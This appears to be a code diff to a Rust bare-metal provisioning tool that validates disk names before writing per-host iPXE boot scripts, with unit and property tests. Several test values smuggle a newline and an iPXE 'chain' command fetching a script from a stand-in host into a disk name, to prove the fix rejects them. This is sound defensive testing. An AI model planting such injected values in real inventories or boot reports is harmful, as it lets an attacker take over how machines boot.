@@ -15,7 +15,7 @@ use harmony::domain::{
     ChangeAction, ExecutionMode, InterpretError, Inventory, ObjectChange, Outcome, Score,
     ValidationError, report_progress,
 };
-use harmony_types::{Id, MacAddress, Version};
+use harmony_types::{DiskName, Id, MacAddress, Version};
 
 use super::reboot::{Reboot, reboot_step};
 use super::rules::{assign_by_rules, describe};
@@ -59,16 +59,31 @@ fn operator_error(e: OperatorError, changes: &[ObjectChange]) -> InterpretError 
     })
 }
 
-fn install_disk(host: Option<&PhysicalHost>, default: &str) -> String {
+/// The device a host installs to: its first non-rotational disk, else its first disk, else
+/// `default`. A disk name is a [`DiskName`] (a kernel device name) or an error naming the host
+/// and the field: an inventory written before reports were validated may hold anything.
+fn install_disk(host: Option<&PhysicalHost>, default: &str) -> Result<String, CapabilityError> {
     let Some(h) = host else {
-        return default.to_string();
+        return Ok(default.to_string());
     };
-    h.disks
+    let Some((i, d)) = h
+        .disks
         .iter()
-        .find(|d| !d.rotational)
-        .or_else(|| h.disks.first())
-        .map(|d| format!("/dev/{}", d.name))
-        .unwrap_or_else(|| default.to_string())
+        .enumerate()
+        .find(|(_, d)| !d.rotational)
+        .or_else(|| h.disks.iter().enumerate().next())
+    else {
+        return Ok(default.to_string());
+    };
+    DiskName::parse(&d.name)
+        .map(|n| n.dev_path())
+        .map_err(|e| CapabilityError::InvalidObject {
+            object: format!("physical host {} in the inventory", h.id),
+            problem: format!(
+                "disks[{i}].name: {e}; reboot the host into discovery so that it reports again, \
+                 or remove it from the inventory"
+            ),
+        })
 }
 
 /// Hosts by id and by MAC, so matching thousands of hosts and declarations stays linear.
@@ -458,7 +473,8 @@ impl<T: OkdTopology> Interpret<T> for OkdHostsScore {
         let mut files = Vec::with_capacity(planned.len());
         for b in &planned {
             let facts = index.by_id(&b.host).map(|i| &hosts[i]);
-            let disk = install_disk(facts, &self.install.default_install_disk);
+            let disk = install_disk(facts, &self.install.default_install_disk)
+                .map_err(capability_error("iPXE script", &changes))?;
             let text = host_script(&base, layout, b, &self.install, &disk)
                 .map_err(capability_error("iPXE script", &changes))?;
             files.push(HttpFile {
@@ -517,5 +533,320 @@ impl<T: OkdTopology> Interpret<T> for OkdHostsScore {
         let mut outcome = Outcome::from_changes(changes);
         outcome.details = details;
         Ok(outcome)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::okd::node_identity::tests_layout;
+    use crate::okd::templates::host_script_shape;
+    use harmony::domain::capability::HostBinding;
+    use harmony_types::{HostName, Url};
+    use proptest::prelude::TestCaseError;
+    use proptest::{prop_assert, prop_assert_eq};
+
+    /// The tester's forged report: a disk name carrying a newline and an iPXE command.
+    fn forged() -> PhysicalHost {
+        serde_json::from_value(serde_json::json!({
+            "id": "host-a", "hostname": null, "macs": ["52:54:00:00:00:31"],
+            "cpu_count": 4, "memory_bytes": 8589934592u64,
+            "disks": [{"name": "sda\nchain http://192.0.2.66/pwn.ipxe", "size_bytes": 1u64 << 30,
+                       "rotational": false}]
+        }))
+        .unwrap()
+    }
+
+    #[test]
+    fn a_disk_name_from_the_inventory_cannot_add_a_line_to_the_script() {
+        let host = forged();
+        let binding = HostBinding {
+            host: host.id.clone(),
+            role: HostRole::Worker,
+            logical: HostName::parse("worker0").unwrap(),
+            mac: host.macs[0],
+        };
+        let base = Url::parse("http://10.0.0.2:8080/").unwrap();
+        let install = OkdInstallation::default();
+        let rendered = install_disk(Some(&host), &install.default_install_disk)
+            .and_then(|disk| host_script(&base, &tests_layout(), &binding, &install, &disk));
+        match rendered {
+            Ok(script) => panic!("the forged disk name reached the script:\n{script}"),
+            Err(e) => {
+                let e = e.to_string();
+                assert!(e.contains("host-a") && e.contains("disks[0].name"), "{e}");
+                assert!(!e.contains('\n'), "the name is escaped in the error: {e}");
+            }
+        }
+        // Defence in depth: the renderer itself refuses such a device, naming host and field.
+        let e = host_script(
+            &base,
+            &tests_layout(),
+            &binding,
+            &install,
+            "/dev/sda\nchain http://192.0.2.66/pwn.ipxe",
+        )
+        .unwrap_err()
+        .to_string();
+        assert!(e.contains("host-a") && e.contains("install_dev"), "{e}");
+        for bad in ["/dev/sda x=y", "/dev/sda${x}", "/dev/sda#", ""] {
+            assert!(
+                host_script(&base, &tests_layout(), &binding, &install, bad).is_err(),
+                "{bad}"
+            );
+        }
+        let ok = host_script(&base, &tests_layout(), &binding, &install, "/dev/nvme0n1").unwrap();
+        host_script_shape(&ok, "/dev/nvme0n1").unwrap();
+    }
+
+    /// Arbitrary reports, hostile and real, for the property tests.
+    mod arbitrary {
+        use proptest::prelude::*;
+        use serde_json::{Value, json};
+
+        /// Text an attacker might send: real names, near misses, punctuation that means
+        /// something to iPXE, a shell or a log, any unicode, and the tester's injection.
+        pub(super) fn text() -> impl Strategy<Value = String> {
+            prop_oneof![
+                "(sd|vd|xvd)[a-z]{1,3}|hd[a-z]|nvme[0-9]{1,3}n[0-9]{1,3}|mmcblk[0-9]{1,3}",
+                "[a-z]{2,6}[0-9]{0,4}(n[0-9]{1,4})?(p[0-9])?",
+                "[a-z0-9 \n\r\t#${}&|;:/=.\"'\\\\-]{0,24}",
+                any::<String>(),
+                "sd[a-z]{1,3}(\n| )(chain|kernel|imgexec|boot|#|\\$\\{net0/ip\\}) ?http://192.0.2.66/pwn.ipxe",
+            ]
+        }
+
+        pub(super) fn real_disk_name() -> impl Strategy<Value = String> {
+            "(sd|vd|xvd)[a-z]{1,3}|hd[a-z]|nvme[0-9]{1,3}n[0-9]{1,3}|mmcblk[0-9]{1,3}"
+        }
+
+        fn number() -> impl Strategy<Value = Value> {
+            prop_oneof![
+                any::<u64>().prop_map(Value::from),
+                any::<u32>().prop_map(Value::from),
+                (1u64..=1 << 24).prop_map(|s| Value::from(s * 512)),
+                (1u64 << 20..=64u64 << 40).prop_map(Value::from),
+                Just(json!(0)),
+                Just(json!(-1)),
+                Just(json!(u64::MAX)),
+                Just(json!(1u64 << 63)),
+                Just(json!(1e300)),
+                Just(json!("4")),
+            ]
+        }
+
+        fn disk() -> impl Strategy<Value = Value> {
+            (text(), number(), any::<bool>())
+                .prop_map(|(n, s, r)| json!({"name": n, "size_bytes": s, "rotational": r}))
+        }
+
+        fn mac() -> impl Strategy<Value = Value> {
+            prop_oneof![
+                "52:54:00:[0-9a-f]{2}:[0-9a-f]{2}:[0-9a-f]{2}",
+                "[0-9a-f]{2}(:[0-9a-f]{2}){5}",
+                text(),
+            ]
+            .prop_map(Value::from)
+        }
+
+        fn maybe(s: impl Strategy<Value = String>) -> impl Strategy<Value = Value> {
+            proptest::option::of(s).prop_map(|o| o.map_or(Value::Null, Value::from))
+        }
+
+        /// A report body as JSON, any field possibly absurd.
+        pub(super) fn report() -> impl Strategy<Value = Value> {
+            (
+                prop_oneof!["host-[a-z0-9]{1,8}", text()],
+                maybe(prop_oneof!["[a-z]{1,10}", text()]),
+                maybe(prop_oneof![text(), "[ -~]{1,128}", "[ -~]{129,300}"]),
+                prop_oneof![
+                    proptest::collection::vec(mac(), 0..4),
+                    proptest::collection::vec(mac(), 60..70),
+                ],
+                number(),
+                number(),
+                prop_oneof![
+                    4 => proptest::collection::vec(disk(), 0..4),
+                    1 => proptest::collection::vec(disk(), 250..262),
+                ],
+                maybe(prop_oneof![
+                    "[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}",
+                    text(),
+                ]),
+            )
+                .prop_map(|(id, hostname, serial, macs, cpus, memory, disks, uuid)| {
+                    json!({"id": id, "hostname": hostname, "serial": serial, "macs": macs,
+                           "cpu_count": cpus, "memory_bytes": memory, "disks": disks,
+                           "uuid": uuid})
+                })
+        }
+
+        /// A real report with up to three fields (or the first disk's name) replaced by
+        /// hostile values.
+        pub(super) fn mutated_report() -> impl Strategy<Value = Value> {
+            let hostile = prop_oneof![
+                text().prop_map(Value::from),
+                number(),
+                proptest::collection::vec(disk(), 0..3).prop_map(Value::from),
+                proptest::collection::vec(mac(), 0..3).prop_map(Value::from),
+                Just(Value::Null),
+            ];
+            (
+                real_report(),
+                proptest::collection::vec((0usize..10, hostile, text()), 0..4),
+            )
+                .prop_map(|(mut body, changes)| {
+                    const KEYS: [&str; 8] = [
+                        "id",
+                        "hostname",
+                        "serial",
+                        "macs",
+                        "cpu_count",
+                        "memory_bytes",
+                        "disks",
+                        "uuid",
+                    ];
+                    for (field, value, name) in changes {
+                        match KEYS.get(field) {
+                            Some(key) => body[key] = value,
+                            None => match body["disks"].as_array_mut() {
+                                Some(disks) if !disks.is_empty() => disks[0]["name"] = name.into(),
+                                Some(disks) => disks.push(
+                                    json!({"name": name, "size_bytes": 512, "rotational": false}),
+                                ),
+                                None => {}
+                            },
+                        }
+                    }
+                    body
+                })
+        }
+
+        /// A report as the agent sends it from real hardware: always accepted.
+        pub(super) fn real_report() -> impl Strategy<Value = Value> {
+            (
+                proptest::collection::btree_set(0u32..0xff_ffff, 1..4),
+                1u32..=4096,
+                1u64 << 20..=64u64 << 40,
+                proptest::collection::btree_map(
+                    real_disk_name(),
+                    ((1u64..=1 << 40), any::<bool>()),
+                    0..6,
+                ),
+                proptest::option::of("[ -~]{1,128}"),
+            )
+                .prop_map(|(macs, cpus, memory, disks, serial)| {
+                    let macs: Vec<String> = macs
+                        .iter()
+                        .map(|m| {
+                            format!(
+                                "52:54:00:{:02x}:{:02x}:{:02x}",
+                                m >> 16,
+                                (m >> 8) & 0xff,
+                                m & 0xff
+                            )
+                        })
+                        .collect();
+                    let disks: Vec<Value> = disks
+                        .into_iter()
+                        .map(|(n, (sectors, r))| {
+                            json!({"name": n, "size_bytes": sectors * 512, "rotational": r})
+                        })
+                        .collect();
+                    json!({"id": "host-a", "hostname": null, "serial": serial, "macs": macs,
+                           "cpu_count": cpus, "memory_bytes": memory, "disks": disks,
+                           "uuid": "4c4c4544-0042-3510-8051-b7c04f4e3232"})
+                })
+        }
+    }
+
+    /// Parses and validates `body` as the discovery endpoint does; for an accepted report,
+    /// renders the per-MAC script as the workers phase does and checks its shape.
+    fn through_edge_and_renderer(body: &serde_json::Value) -> Result<bool, TestCaseError> {
+        let bytes = serde_json::to_vec(body).unwrap();
+        let Ok(report) = serde_json::from_slice::<harmony_types::DiscoveryReport>(&bytes) else {
+            return Ok(false);
+        };
+        if report.validate().is_err() {
+            return Ok(false);
+        }
+        let host = report.host;
+        let binding = HostBinding {
+            host: host.id.clone(),
+            role: HostRole::Worker,
+            logical: HostName::parse("worker0").unwrap(),
+            mac: host.macs[0],
+        };
+        let base = Url::parse("http://10.0.0.2:8080/").unwrap();
+        let install = OkdInstallation::default();
+        let disk = install_disk(Some(&host), &install.default_install_disk)
+            .map_err(|e| TestCaseError::fail(format!("accepted report, refused disk: {e}")))?;
+        let expected = host
+            .disks
+            .iter()
+            .find(|d| !d.rotational)
+            .or(host.disks.first())
+            .map_or("/dev/sda".to_string(), |d| format!("/dev/{}", d.name));
+        prop_assert_eq!(&disk, &expected);
+        let script = host_script(&base, &tests_layout(), &binding, &install, &disk)
+            .map_err(|e| TestCaseError::fail(format!("accepted report, refused script: {e}")))?;
+        // Same lines, same commands in the same order, one kernel line with the expected
+        // arguments, whatever the report said.
+        prop_assert_eq!(script.lines().count(), 6, "{}", script);
+        prop_assert_eq!(script.matches("\nkernel ").count(), 1, "{}", script);
+        if let Err(e) = host_script_shape(&script, &expected) {
+            return Err(TestCaseError::fail(format!("{e}:\n{script}")));
+        }
+        prop_assert!(!script.contains("192.0.2.66"), "{}", script);
+        Ok(true)
+    }
+
+    fn config() -> proptest::test_runner::Config {
+        proptest::test_runner::Config {
+            cases: 256,
+            failure_persistence: None,
+            ..proptest::test_runner::Config::default()
+        }
+    }
+
+    /// Runs `strategy`'s reports through the edge and the renderer; returns how many were
+    /// accepted and how many refused.
+    fn run(
+        strategy: impl proptest::strategy::Strategy<Value = serde_json::Value>,
+    ) -> (usize, usize) {
+        let counts = std::cell::Cell::new((0, 0));
+        let mut runner = proptest::test_runner::TestRunner::new(config());
+        let result = runner.run(&strategy, |body| {
+            let (a, r) = counts.get();
+            counts.set(if through_edge_and_renderer(&body)? {
+                (a + 1, r)
+            } else {
+                (a, r + 1)
+            });
+            Ok(())
+        });
+        if let Err(e) = result {
+            panic!("{e}");
+        }
+        counts.get()
+    }
+
+    #[test]
+    fn no_report_changes_the_shape_of_a_script() {
+        // Real reports with up to three fields replaced by hostile values: many are accepted,
+        // so the rendering side of the property is exercised, not only the refusals.
+        let (accepted, refused) = run(arbitrary::mutated_report());
+        assert!(
+            accepted >= 32 && refused >= 32,
+            "{accepted} accepted, {refused} refused"
+        );
+        // Reports with every field arbitrary: almost all refused, none may change a script.
+        run(arbitrary::report());
+    }
+
+    #[test]
+    fn real_reports_are_accepted_and_rendered() {
+        let (accepted, refused) = run(arbitrary::real_report());
+        assert_eq!((accepted, refused), (256, 0));
     }
 }
